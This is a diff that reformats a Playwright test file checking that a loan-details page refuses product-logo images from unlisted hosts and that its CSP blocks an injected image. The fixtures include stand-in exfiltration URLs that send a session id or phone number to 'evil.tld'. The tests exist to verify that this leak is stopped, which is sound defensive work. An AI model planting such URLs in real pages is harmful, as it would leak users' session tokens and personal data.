@@ -11,7 +11,9 @@ import { DEMO, expect, test } from './support/fixtures';
 import { byId, patchData } from './support/payFlow';
 
 const LOAN_DETAILS = '/v3/loan-details/loan-details';
-const app = JSON.parse(readFileSync(join(import.meta.dirname, '..', '..', 'config', 'app.json'), 'utf8')) as { imageHosts: string[] };
+const app = JSON.parse(
+  readFileSync(join(import.meta.dirname, '..', '..', 'config', 'app.json'), 'utf8'),
+) as { imageHosts: string[] };
 
 /** Every request the page makes to a host other than the test server's. */
 function foreignRequests(page: Page): Request[] {
@@ -25,10 +27,19 @@ function foreignRequests(page: Page): Request[] {
 test.describe('image hosts (issue 32)', () => {
   for (const [what, logo] of [
     ['a host not on imageHosts', `https://evil.tld/p.png?s=${DEMO.sessionId}`],
-    ['a listed host with the sessionId in the URL', `https://${app.imageHosts[0] ?? ''}/p.png?s=${DEMO.sessionId}`],
-    ['a listed host with the phone in the path', `https://${app.imageHosts[0] ?? ''}/${DEMO.mobilePhone}/p.png`],
+    [
+      'a listed host with the sessionId in the URL',
+      `https://${app.imageHosts[0] ?? ''}/p.png?s=${DEMO.sessionId}`,
+    ],
+    [
+      'a listed host with the phone in the path',
+      `https://${app.imageHosts[0] ?? ''}/${DEMO.mobilePhone}/p.png`,
+    ],
   ] as const) {
-    test(`the product logo from the API on ${what} is not requested, the rest of the screen shows`, async ({ page, kopa }) => {
+    test(`the product logo from the API on ${what} is not requested, the rest of the screen shows`, async ({
+      page,
+      kopa,
+    }) => {
       const foreign = foreignRequests(page);
       await patchData(page, LOAN_DETAILS, (data) => {
         data.productLogo = logo;
@@ -37,11 +48,19 @@ test.describe('image hosts (issue 32)', () => {
       await expect(byId(page, 'productName')).not.toBeEmpty();
       await expect(page.locator('img[src*="p.png"]')).toHaveCount(0);
       expect(foreign.map((r) => r.url())).toEqual([]);
-      expect(await kopa.reports()).toContainEqual(expect.objectContaining({ kind: 'image', message: expect.stringContaining('Image source refused') }));
+      expect(await kopa.reports()).toContainEqual(
+        expect.objectContaining({
+          kind: 'image',
+          message: expect.stringContaining('Image source refused'),
+        }),
+      );
     });
   }
 
-  test("the page's CSP stops an image on another host even when markup asks for it", async ({ page, kopa }) => {
+  test("the page's CSP stops an image on another host even when markup asks for it", async ({
+    page,
+    kopa,
+  }) => {
     const foreign = foreignRequests(page);
     await kopa.open('/loanDetail', { orderId: 'O170', productId: 'P002' });
     await expect(byId(page, 'productName')).not.toBeEmpty();
@@ -50,7 +69,9 @@ test.describe('image hosts (issue 32)', () => {
       img.src = `https://evil.tld/p.png?s=${sid}`;
       document.body.append(img);
     }, DEMO.sessionId);
-    await expect.poll(() => kopa.cspViolations()).toContainEqual(expect.stringContaining('img-src https://evil.tld/p.png'));
+    await expect
+      .poll(() => kopa.cspViolations())
+      .toContainEqual(expect.stringContaining('img-src https://evil.tld/p.png'));
     // Chromium names the attempt, and stops it before it leaves: blocked by the CSP, no answer.
     await expect.poll(() => foreign.map((r) => r.failure()?.errorText)).toEqual(['csp']);
     expect(await foreign[0]?.response()).toBeNull();
